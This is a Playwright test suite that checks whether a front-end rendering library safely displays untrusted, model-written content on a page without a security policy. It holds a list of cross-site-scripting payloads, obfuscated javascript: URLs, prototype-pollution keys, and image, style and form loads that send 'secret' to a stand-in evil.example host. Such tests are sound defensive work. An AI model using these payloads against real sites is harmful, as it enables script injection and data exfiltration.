"""What a model writes when somebody else has told it what: in every binding, on a page without a policy.

Without a Content-Security-Policy whatever could run would run, and whatever could be fetched would be.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from ..chaos.patience import scaled
from .conftest import TIMEOUT

MARKUP = json.loads((Path(__file__).parent.parent / "cases" / "html_attacks.json").read_text())
EVIL = "https://evil.example/?q=secret"
HOSTILE = {
    "a script": "<script>attacked = true</script>",
    "a handler": "<img src=x onerror='attacked = true'>",
    "a script behind a quote": "\"'><script>attacked = true</script>",
    "a script in a comment": "--><script>attacked = true</script><!--",
    "a script in an svg": "<svg onload='attacked = true'><animate onbegin='attacked = true'></svg>",
    "a frame": "<iframe srcdoc=\"<script>parent.attacked = true</script>\"></iframe>",
    "an address that runs": "javascript:attacked = true",
    "an address that runs, in capitals": "JaVaScRiPt:attacked = true",
    "an address that runs, with white space": " \u0001java\tscr\nipt:attacked = true",
    "an address that runs, in references": "&#106;avascript&colon;attacked = true",
    "an address that runs, escaped": "javascript%3Aattacked = true",
    "an address of data": "data:text/html,<script>parent.attacked = true</script>",
    "an address of old": "vbscript:attacked = true",
    "a link in Markdown that runs": "[x](javascript:attacked=true) [x](<javascript:attacked=true>)",
    "a link in Markdown with a handler": '[x](/x "onclick=attacked=true") [x](" onclick="attacked=true)',
    "code in Markdown with a class": '```"><script>attacked=true</script>\nx\n```',
    "an image": f"<img src={EVIL}>",
    "an image in Markdown": f"![x]({EVIL}) ![x](<{EVIL}>) [![x]({EVIL})]({EVIL}) ![x][y]\n\n[y]: {EVIL}",
    "an image without a scheme": "![x](//evil.example/?q=secret) ![x](\\\\evil.example/?q=secret)",
    "a style": f"<style>@import '{EVIL}'; * {{ background: url({EVIL}) }}</style>",
    "a style's value": f"background: url({EVIL})",
    "a sheet": f"<link rel=stylesheet href={EVIL}><link rel=prefetch href={EVIL}><base href={EVIL}>",
    "a refresh": f"<meta http-equiv=refresh content='0;{EVIL}'>",
    "a form": f"<form action={EVIL}><input autofocus onfocus='attacked = true'></form>",
    "a key of all objects": "__proto__",
    "a key of all functions": "constructor",
    "an override of the direction": "\u202egpj.exe\u202c \u2066x\u2069 \u200f",
    "characters that are none": "\x00\x01\x7f\ufffe\ud83d",
}  # fmt: skip
ATTRIBUTES = (
    "src", "srcset", "href", "cite", "poster", "ping", "background", "data", "action", "formaction",
    "style", "onerror", "onload", "onclick", "onfocus", "ontoggle", "autofocus", "srcdoc", "xlink:href",
    "lowsrc", "dynsrc", "manifest", "profile", "longdesc", "usemap", "codebase", "archive", "classid",
    "is", "slot", "part", "name", "id", "class", "target", "rel", "type", "nonce", "integrity",
    "contenteditable", "popover", "command",
)  # fmt: skip
TAGS = (
    "a", "img", "script", "style", "iframe", "object", "embed", "svg", "math", "link", "meta", "base",
    "form", "input", "button", "video", "audio", "source", "track", "picture", "template", "slot",
    "portal", "body", "html", "frame", "frameset", "applet", "isindex", "ling-stream", "SCRIPT", "p",
    "q", "blockquote", "details",
)  # fmt: skip
BOUND = """
    <p data-ling="text"></p><pre data-ling="long"></pre>
    <article data-ling-html="html"></article><article data-ling-html="text"></article>
    <ul data-ling-each="items"><template><li data-ling="." data-ling-if="."></li></template></ul>
    <a data-ling-attr-href="text" data-ling-attr-title="text" data-ling-attr-data-x="text">link</a>
    <b data-ling-attr-dir="text" data-ling-attr-aria-label="text"></b>
    <article data-ling-markdown="text"></article>
"""
DRAW = """async (json) => {
    const { Bindings } = await import("/static/lingstream/bindings.js");
    const { Markdown } = await import("/static/lingstream/markdown.js");
    const { fold } = await import("/static/lingstream/fold.js");
    const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    let longest = 0;
    const observer = new PerformanceObserver((list) => {
        for (const { duration } of list.getEntries()) longest = Math.max(longest, duration);
    });
    const root = document.querySelector("main");
    root.replaceChildren(window.bound.content.cloneNode(true));
    const value = JSON.parse(json);
    const content = fold(undefined, { uri: "", value });
    await frame();
    observer.observe({ type: "longtask" });
    const bindings = new Bindings(root, { about: () => ({}) });
    bindings.reset();
    while (bindings.render(content, performance.now() + 8) === false) await frame();
    const markdown = new Markdown(root.appendChild(document.createElement("article")));
    markdown.append(typeof value.text === "string" ? value.text : "");
    await markdown.end();
    for (let count = 0; count < 3; count++) await frame();
    for (const link of root.querySelectorAll("a")) if (link.protocol === "javascript:") link.click();
    bindings.disconnect?.();
    return longest;
}"""
UNSAFE = """() => {
    const isTag = /^(script|style|iframe|object|embed|svg|math|form|input|base|link|meta|video|audio|img)$/;
    const isName = /^(on.*|style|src|srcset|ping|poster|background|action|formaction|id|name)$/;
    return [...document.querySelectorAll("main *")].filter(({ localName, attributes, href, protocol }) =>
        isTag.test(localName) ||
        (href && !/^(https?|mailto)?:$/.test(protocol)) ||
        [...attributes].some(({ name }) => isName.test(name)),
    ).map(({ outerHTML }) => outerHTML.slice(0, 200));
}"""


@pytest.fixture(scope="module")
def profile(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(bypass_csp=True)
    yield context
    context.close()


@pytest.fixture
def context(context: BrowserContext) -> BrowserContext:
    context.set_default_timeout(scaled(2 * TIMEOUT))
    return context


@pytest.fixture
def requested(page: Page, server: str) -> list[str]:
    """The addresses that the page asks for beside its own modules; a page with all bindings is open."""
    session = page.context.new_cdp_session(page)  # a route of playwright would turn off the browser's cache
    session.send("Network.enable")
    session.send("Network.setBlockedURLs", {"urls": ["https://*"]})
    page.goto(f"{server}/there/?body=<main></main>")
    page.evaluate(
        """(markup) => {
            window.bound = document.createElement("template");
            window.bound.innerHTML = markup;
        }""",
        BOUND,
    )
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    return requested


def draw(page: Page, document: Any) -> float:
    longest: float = page.evaluate(DRAW, json.dumps(document))
    return longest


def check(page: Page, requested: list[str]) -> None:
    assert page.evaluate("window.attacked") is None
    assert page.evaluate(UNSAFE) == []
    assert [url for url in requested if "/static/" not in url] == []
    assert page.evaluate("Object.keys(Object.prototype).length + Object.keys(Array.prototype).length") == 0


def forged(text: str) -> list[Any]:
    """Trees that no server of ours would send."""
    every = dict.fromkeys([*ATTRIBUTES, text], text)
    return [{"tag": tag, "attrs": every, "children": [text]} for tag in [*TAGS, text]]


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_runs_and_nothing_is_requested(page: Page, requested: list[str], name: str) -> None:
    text = HOSTILE[name]
    draw(
        page,
        {"text": text, "html": forged(text), "items": {text: text, "__proto__": [text], "constructor": text}},
    )
    check(page, requested)


def test_nothing_of_known_markup_runs(page: Page, requested: list[str]) -> None:
    for attack in MARKUP:
        draw(page, {"text": attack["html"], "html": forged(attack["html"]), "items": [attack["html"]]})
        check(page, requested)


def nested(depth: int) -> Any:
    tree: Any = "x"
    for _ in range(depth):
        tree = {"tag": "div", "attrs": {}, "children": [tree]}
    return tree


LARGE = {
    "quotes inside each other": {"text": "> " * 5_000 + "x"},
    "a field of a megabyte": {"text": ("word " * 20 + "\n\n") * 10_000},
    "a field of ten megabytes": {"long": ("word " * 20 + "\n") * 100_000},
    "ten thousand items": {"items": [f"item {number}" for number in range(10_000)]},
    "ten thousand keys": {"items": {f"key {number}": "x" for number in range(10_000)}},
    "ten thousand attributes": {"html": {"tag": "p", "attrs": {f"a{n}": "x" for n in range(10_000)}}},
    "an attribute of a megabyte": {"html": {"tag": "p", "attrs": {"title": "x" * 1_000_000}}},
    "elements inside each other": {"html": nested(400)},
    "ten thousand elements": {"html": [{"tag": "p", "attrs": {}, "children": ["x"]}] * 10_000},
}


@pytest.mark.parametrize("name", LARGE)
def test_nothing_stops_the_page(page: Page, requested: list[str], name: str) -> None:
    longest = draw(page, LARGE[name])
    check(page, requested)
    assert longest < scaled(2_000)
    assert page.evaluate("document.querySelector('main').children.length") > 0
